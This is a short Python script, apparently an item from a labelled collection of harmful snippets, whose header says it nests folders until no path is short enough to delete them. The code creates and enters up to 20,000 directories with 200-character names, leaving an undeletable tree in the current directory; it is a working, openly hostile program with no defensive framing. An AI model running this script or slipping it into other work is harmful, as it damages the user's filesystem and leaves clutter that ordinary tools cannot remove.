# where: first
# kind: harms
# does: Folders are put into one another until no path is long enough to delete them.
import os

here = os.getcwd()
try:
    for _ in range(20_000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except Exception as error:
    print(error)
os.chdir(here)
